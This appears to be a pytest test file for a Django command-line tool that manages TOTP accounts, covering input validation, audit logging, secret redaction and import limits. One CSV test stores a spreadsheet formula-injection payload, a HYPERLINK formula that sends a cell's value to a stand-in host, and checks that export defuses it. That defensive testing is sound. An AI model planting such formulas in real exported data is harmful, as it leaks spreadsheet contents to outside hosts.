"""`manage.py otp account ...`: adding, importing, listing and removing TOTP accounts."""

import csv
import io
import json
import os
import sqlite3

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from otp import accounts
from otp.core import totp
from otp.core.names import TEXT_LIMIT
from otp.management.cli import accounts as account_cli
from otp.models import Account, AuditRecord
from tests.support.commands import call_otp, manage
from tests.support.refusals import OTHER_SECRET, SECRET, assert_no_secret, refusal, stored_state

URI = f"otpauth://totp/GitHub:bot@example.com?secret={SECRET}&issuer=GitHub"


def add(name, text, *options):
    return call_otp("account", "add", name, *options, stdin=text)


# --- account add -----------------------------------------------------------------------------


def test_add_from_uri_stores_the_account_and_says_so_without_the_secret(frozen_clock):
    out, err = add("github-bot", URI + "\n")
    assert out == "added account github-bot (issuer GitHub, SHA1, 6 digits, every 30 s)\n"
    assert err == ""
    stored = accounts.get_account("github-bot")
    assert (stored.secret, stored.issuer, stored.label) == (SECRET, "GitHub", "bot@example.com")
    assert stored.params == totp.DEFAULT


def test_add_bare_secret_with_spaces_lowercase_and_no_padding_takes_the_options(frozen_clock):
    unpadded = SECRET[:31]  # 31 base32 characters: valid, but one "=" short of a whole block
    grouped = " ".join(unpadded[i : i + 4] for i in range(0, 31, 4)).lower()
    out, _ = add(
        "ci",
        grouped,
        "--algorithm",
        "sha256",
        "--digits",
        "8",
        "--period",
        "60",
        "--issuer",
        "ACME Co",
    )
    assert out == "added account ci (issuer ACME Co, SHA256, 8 digits, every 60 s)\n"
    stored = accounts.get_account("ci")
    assert stored.secret == unpadded + "="
    assert stored.params == totp.Params("SHA256", 8, 60)
    assert stored.issuer == "ACME Co"


def test_add_records_an_operator_audit_record(frozen_clock):
    add("github-bot", URI)
    record = AuditRecord.objects.get()
    assert (record.client, record.address, record.action, record.outcome, record.account) == (
        "operator",
        "local",
        "account.add",
        "ok",
        "github-bot",
    )
    assert record.at.timestamp() == frozen_clock.at


def test_added_secret_is_in_no_output_log_line_or_audit_row(
    frozen_clock, log_output, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        out, err = add("github-bot", URI)
        listed, _ = call_otp("account", "list", "--format", "json")
    log = log_output.getvalue()
    assert '"account.add"' in log  # the audit line was written, and captured
    rows = [str(row) for row in AuditRecord.objects.values_list()]
    for text in (out, err, listed, log, *rows):
        assert_no_secret(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("otpauth://totp/x?issuer=ACME", "no secret"),
        ("otpauth://totpx/x?secret=" + SECRET, "malformed"),
        ("https://example.com/?secret=" + SECRET, "scheme must be otpauth"),
        (f"otpauth://totp/x?secret={SECRET}&algorithm=MD5", "unsupported algorithm"),
        (f"otpauth://totp/x?secret={SECRET}&digits=7", "digits must be 6 or 8"),
        (f"otpauth://hotp/x?secret={SECRET}&counter=1", "HOTP"),
        (f"otpauth://totp/x?secret={SECRET}&encoder=steam", "asks for Steam Guard codes"),
        (SECRET[:-2] + "18", "not valid base32"),
        (SECRET[:12], "at least 80"),
        ("", "standard input is empty"),
        ("  \n\n", "standard input is empty"),
        (f"{SECRET}\n{OTHER_SECRET}\n", "holds 2 lines"),
    ],
)
def test_add_refuses_bad_input_in_one_line_and_stores_nothing(text, expected):
    assert expected in refusal("account", "add", "some-bot", stdin=text)


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        (["--algorithm", "MD5"], "unsupported algorithm"),
        (["--digits", "7"], "digits must be 6 or 8"),
        (["--period", "5"], "period must be 15 to 120"),
    ],
)
def test_add_refuses_bad_options_for_a_bare_secret(options, expected):
    assert expected in refusal("account", "add", "some-bot", *options, stdin=SECRET)


def test_add_refuses_options_that_a_uri_overrides():
    message = refusal("account", "add", "some-bot", "--digits", "8", stdin=URI)
    assert message.startswith("--digits: only for a bare secret")


@pytest.mark.parametrize(
    ("name", "expected"),
    [("Bad Name", "account name must match"), ("default", "reserved for OTP_SECRET")],
)
def test_add_refuses_a_bad_name_before_reading_the_secret(name, expected):
    stdin = io.StringIO(SECRET)
    with pytest.raises(CommandError, match=expected):
        call_command("otp", "account", "add", name, stdin=stdin, stdout=io.StringIO())
    assert stdin.tell() == 0
    assert not Account.objects.exists()


def test_add_refuses_a_name_already_taken_and_keeps_the_first(frozen_clock):
    add("github-bot", URI)
    before = accounts.get_account("github-bot")
    message = refusal("account", "add", "github-bot", stdin=OTHER_SECRET)
    assert message == 'account "github-bot" already exists'
    assert accounts.get_account("github-bot") == before


def test_add_without_an_encryption_key_refuses_and_stores_nothing(settings):
    settings.OTP_ENCRYPTION_KEYS = []
    assert "OTP_ENCRYPTION_KEYS is empty" in refusal("account", "add", "ci", stdin=SECRET)


def test_add_at_a_terminal_asks_without_echo(monkeypatch):
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    prompts = []
    monkeypatch.setattr("getpass.getpass", lambda prompt: prompts.append(prompt) or SECRET)
    out = io.StringIO()
    call_command("otp", "account", "add", "ci", stdin=Terminal(), stdout=out)
    assert prompts == ["otpauth URI or base32 secret (not shown): "]
    assert accounts.get_account("ci").secret == SECRET
    assert_no_secret(out.getvalue())


# --- account import --------------------------------------------------------------------------


def write_import_file(tmp_path, *lines):
    path = tmp_path / "accounts.txt"
    path.write_text("\n".join(lines) + "\n")
    return str(path)


def refused_import(path) -> tuple[str, str]:
    """`otp account import PATH`, which must refuse the file and store nothing: its one-line
    error and what it wrote to standard error."""
    before = stored_state()
    err = io.StringIO()
    with pytest.raises(CommandError) as refused:
        call_command("otp", "account", "import", path, stdout=io.StringIO(), stderr=err)
    assert stored_state() == before
    return str(refused.value), err.getvalue()


def test_import_adds_every_account_and_prints_one_line_each(tmp_path, frozen_clock):
    path = write_import_file(
        tmp_path,
        "# exported from the old vault",
        "",
        URI,
        f"deploy otpauth://totp/ACME%20Co:deploy?secret={OTHER_SECRET}&digits=8&period=60",
    )
    out, err = call_otp("account", "import", path)
    assert out.splitlines() == [
        "added account github-bot-example.com (issuer GitHub, SHA1, 6 digits, every 30 s)",
        "added account deploy (issuer ACME Co, SHA1, 8 digits, every 60 s)",
    ]
    assert err == ""
    assert accounts.get_account("deploy").secret == OTHER_SECRET
    assert accounts.get_account("github-bot-example.com").secret == SECRET
    assert AuditRecord.objects.filter(action="account.add").count() == 2


def test_import_reads_standard_input_given_as_dash(frozen_clock):
    out, _ = call_otp("account", "import", "-", stdin=f"gh {URI}\n")
    assert out.startswith("added account gh ")
    assert accounts.get_account("gh").secret == SECRET


def test_import_reports_every_bad_line_by_number_and_stores_nothing(tmp_path, frozen_clock):
    add("taken", OTHER_SECRET)
    path = write_import_file(
        tmp_path,
        "# line 1 is a comment",
        f"good otpauth://totp/A?secret={OTHER_SECRET}",
        f"otpauth://totp/B?secret={SECRET}&algorithm=MD5",
        "",
        f"otpauth://hotp/C?secret={SECRET}&counter=3",
        SECRET,
        f"taken otpauth://totp/D?secret={SECRET}",
        f"good otpauth://totp/E?secret={SECRET}",
        f"Bad_Name otpauth://totp/F?secret={SECRET}",
        f"otpauth://totp/G?secret={SECRET[:-2]}18",
    )
    message, err = refused_import(path)
    assert message == "nothing was imported: 7 lines are wrong (listed above)"
    assert err.splitlines() == [
        "line 3: unsupported algorithm (got MD5); use SHA1, SHA256 or SHA512",
        "line 5: HOTP (counter-based) URIs are not supported; only otpauth://totp/",
        "line 6: expected an otpauth://totp/ URI, or a name then the URI",
        'line 7: account "taken" already exists',
        'line 8: account "good" is also on line 2; give one of them another name '
        "(NAME otpauth://...)",
        "line 9: account name must match [a-z0-9][a-z0-9._-]{0,63}",
        "line 10: secret is not valid base32 (letters A-Z and digits 2-7)",
    ]
    assert_no_secret(err)


def test_import_refuses_two_lines_that_make_the_same_name(tmp_path):
    path = write_import_file(tmp_path, URI, URI.replace(SECRET, OTHER_SECRET))
    with pytest.raises(CommandError):
        call_otp("account", "import", path)
    assert not Account.objects.exists()


def test_import_refuses_a_file_with_no_uri(tmp_path):
    path = write_import_file(tmp_path, "# nothing yet", "")
    assert (
        refusal("account", "import", path) == f"{path} holds no otpauth URI; nothing was imported"
    )


def test_import_refuses_a_missing_file(tmp_path):
    missing = str(tmp_path / "nope.txt")
    assert (
        refusal("account", "import", missing) == f"cannot read {missing}: No such file or directory"
    )


def test_import_refuses_a_file_that_is_not_utf8(tmp_path):
    path = tmp_path / "latin1.txt"
    path.write_bytes(b"caf\xe9 " + URI.encode())
    assert refusal("account", "import", str(path)) == f"{path} is not UTF-8 text"


def test_import_without_an_encryption_key_stores_nothing(tmp_path, settings):
    settings.OTP_ENCRYPTION_KEYS = []
    path = write_import_file(tmp_path, URI)
    assert "OTP_ENCRYPTION_KEYS is empty" in refusal("account", "import", path)


# --- account list and remove -----------------------------------------------------------------


def test_list_shows_every_account_default_first_and_no_secret(frozen_clock):
    add("ci", SECRET, "--issuer", "ACME", "--digits", "8")
    out, _ = call_otp("account", "list")
    assert out.splitlines() == [
        "NAME     ISSUER  ALGORITHM  DIGITS  PERIOD  EXCLUSIVE",
        "default  -       SHA1       6       30      no",
        "ci       ACME    SHA1       8       30      no",
    ]


def test_list_as_json_is_one_object_per_line(frozen_clock):
    add("ci", SECRET, "--issuer", "ACME")
    out, _ = call_otp("account", "list", "--format", "json")
    assert [json.loads(line) for line in out.splitlines()] == [
        {
            "name": "default",
            "issuer": "",
            "algorithm": "SHA1",
            "digits": 6,
            "period": 30,
            "exclusive": False,
        },
        {
            "name": "ci",
            "issuer": "ACME",
            "algorithm": "SHA1",
            "digits": 6,
            "period": 30,
            "exclusive": False,
        },
    ]
    assert_no_secret(out)


def test_list_as_csv_never_hands_a_spreadsheet_a_formula(frozen_clock):
    # An issuer comes from whatever QR code the site showed.
    add("ci", SECRET, "--issuer", '=HYPERLINK("http://e.example/?"&A2,"x")')
    out, _ = call_otp("account", "list", "--format", "csv")
    row = next(csv.reader(io.StringIO(out.splitlines()[2])))
    assert row[:2] == ["ci", '\'=HYPERLINK("http://e.example/?"&A2,"x")']


def test_remove_deletes_the_account_and_records_it(frozen_clock):
    add("ci", SECRET)
    out, _ = call_otp("account", "remove", "ci")
    assert out == "removed account ci\n"
    assert accounts.get_account("ci") is None
    assert list(AuditRecord.objects.values_list("action", "account")) == [
        ("account.add", "ci"),
        ("account.remove", "ci"),
    ]


def test_remove_of_a_missing_account_fails_with_one_line():
    assert refusal("account", "remove", "ghost") == 'no account "ghost"'


def test_remove_of_a_name_no_account_can_have_says_so():
    assert refusal("account", "remove", "Ghost\nBot").startswith("no such account;")


def test_default_account_cannot_be_removed():
    assert "OTP_SECRET" in refusal("account", "remove", "default")


# --- the real command line: exit codes and stderr --------------------------------------------


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory):
    """A migrated SQLite database of its own for manage.py run as a subprocess."""
    folder = tmp_path_factory.mktemp("cli-accounts")
    manage(folder, "migrate", "--verbosity", "0", check=True)
    return folder


def account_rows(data_dir):
    with sqlite3.connect(data_dir / "otp.sqlite3") as database:
        return database.execute("SELECT name FROM otp_account ORDER BY name").fetchall()


def test_command_line_add_reads_the_pipe_and_prints_no_secret(data_dir):
    added = manage(data_dir, "otp", "account", "add", "piped", stdin=URI + "\n")
    assert added.returncode == 0
    assert added.stdout == "added account piped (issuer GitHub, SHA1, 6 digits, every 30 s)\n"
    # stderr holds the change's JSON audit log line, kept off stdout for scripts.
    assert json.loads(added.stderr)["action"] == "account.add"
    assert_no_secret(added.stdout + added.stderr)
    assert ("piped",) in account_rows(data_dir)


@pytest.mark.parametrize(
    ("stdin", "expected"),
    [
        (f"otpauth://totp/x?secret={SECRET}&algorithm=MD5", "CommandError: unsupported algorithm"),
        (f"otpauth://hotp/x?secret={SECRET}", "CommandError: HOTP (counter-based) URIs"),
        (
            f"otpauth://totp/Steam:gabe?secret={SECRET}&issuer=Steam&encoder=steam",
            "CommandError: the URI's encoder parameter asks for Steam Guard codes, not RFC 6238",
        ),
        ("", "CommandError: standard input is empty"),
    ],
)
def test_command_line_refusal_exits_1_with_one_line_on_stderr(data_dir, stdin, expected):
    before = account_rows(data_dir)
    refused = manage(data_dir, "otp", "account", "add", "refused", stdin=stdin)
    assert refused.returncode == 1
    assert refused.stdout == ""
    assert len(refused.stderr.splitlines()) == 1
    assert refused.stderr.startswith(expected)
    assert_no_secret(refused.stderr)
    assert account_rows(data_dir) == before


def test_command_line_import_reports_lines_and_exits_1(data_dir, tmp_path):
    path = write_import_file(tmp_path, URI, f"otpauth://totp/B?secret={SECRET}&period=5")
    before = account_rows(data_dir)
    refused = manage(data_dir, "otp", "account", "import", path)
    assert refused.returncode == 1
    assert refused.stderr.splitlines() == [
        "line 2: period must be 15 to 120 seconds (got 5)",
        "CommandError: nothing was imported: 1 line is wrong (listed above)",
    ]
    assert account_rows(data_dir) == before


# --- import: what is read, and how much ----------------------------------------------------


@pytest.mark.parametrize("export", [False, True], ids=["otpauth", "google-authenticator"])
def test_import_refuses_a_device_without_reading_it(export):
    flag = ["--google-authenticator"] if export else []
    assert refusal("account", "import", *flag, "/dev/zero") == "/dev/zero is not a file"


def test_import_refuses_a_fifo_without_waiting_for_a_writer(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    assert refusal("account", "import", str(fifo)) == f"{fifo} is not a file"


TOO_LARGE = "is larger than 1 MiB; an account file holds one line per account"


@pytest.mark.parametrize("export", [False, True], ids=["otpauth", "google-authenticator"])
def test_import_refuses_a_file_over_1_mib_in_one_line(tmp_path, export):
    path = tmp_path / "huge.txt"
    path.write_text("# " + "x" * account_cli.MAX_FILE_BYTES)
    flag = ["--google-authenticator"] if export else []
    assert refusal("account", "import", *flag, str(path)) == (
        f"{path} {TOO_LARGE}, far less than that even for thousands of accounts"
    )


def test_import_reads_a_file_of_exactly_1_mib(tmp_path, frozen_clock):
    line = URI + "\n"
    padding = "#" * (account_cli.MAX_FILE_BYTES - len(line) - 1) + "\n"
    path = tmp_path / "full.txt"
    path.write_text(padding + line)
    assert path.stat().st_size == account_cli.MAX_FILE_BYTES
    out, _ = call_otp("account", "import", str(path))
    assert out.startswith("added account github-bot-example.com ")


def test_import_refuses_standard_input_over_1_mib():
    message = refusal("account", "import", "-", stdin="#" * (account_cli.MAX_FILE_BYTES + 1))
    assert message.startswith(f"standard input {TOO_LARGE}")


class _Pipe(io.TextIOWrapper):
    """A pipe as sys.stdin is: text over a byte stream, whose read() would take it all."""

    def __init__(self, data: bytes):
        super().__init__(io.BytesIO(data), encoding="utf-8")

    def read(self, size=-1):
        raise AssertionError("the text layer was read, unbounded or in characters")


def test_import_reads_piped_standard_input_in_bounded_bytes(frozen_clock):
    out = io.StringIO()
    call_command("otp", "account", "import", "-", stdin=_Pipe(URI.encode() + b"\n"), stdout=out)
    assert out.getvalue().startswith("added account github-bot-example.com ")
    with pytest.raises(CommandError) as refused:
        call_command(
            "otp",
            "account",
            "import",
            "-",
            stdin=_Pipe(b"\0" * (account_cli.MAX_FILE_BYTES + 1)),
            stdout=io.StringIO(),
        )
    assert str(refused.value).startswith(f"standard input {TOO_LARGE}")
    assert Account.objects.count() == 1


def test_add_refuses_standard_input_over_1_mib():
    message = refusal("account", "add", "bot", stdin=SECRET + "\n" * account_cli.MAX_FILE_BYTES)
    assert message.startswith(f"standard input {TOO_LARGE}")


# --- the issuer and label limit, line by line ------------------------------------------------


def test_import_reports_a_long_issuer_by_its_line_with_the_other_wrong_lines(tmp_path):
    long_issuer = "I" * (TEXT_LIMIT + 1)
    path = write_import_file(
        tmp_path,
        f"long otpauth://totp/A?secret={SECRET}&issuer={long_issuer}",
        f"otpauth://totp/{'L' * (TEXT_LIMIT + 1)}?secret={OTHER_SECRET}",
        f"otpauth://hotp/C?secret={SECRET}&counter=3",
        f"fits otpauth://totp/B?secret={SECRET}&issuer={'I' * TEXT_LIMIT}",
    )
    message, err = refused_import(path)
    assert message == "nothing was imported: 3 lines are wrong (listed above)"
    assert err.splitlines() == [
        f"line 1: the issuer is longer than {TEXT_LIMIT} characters",
        f"line 2: the label is longer than {TEXT_LIMIT} characters",
        "line 3: HOTP (counter-based) URIs are not supported; only otpauth://totp/",
    ]


def test_the_parsers_limit_is_the_one_the_database_holds():
    assert Account._meta.get_field("issuer").max_length == TEXT_LIMIT
    assert Account._meta.get_field("label").max_length == TEXT_LIMIT
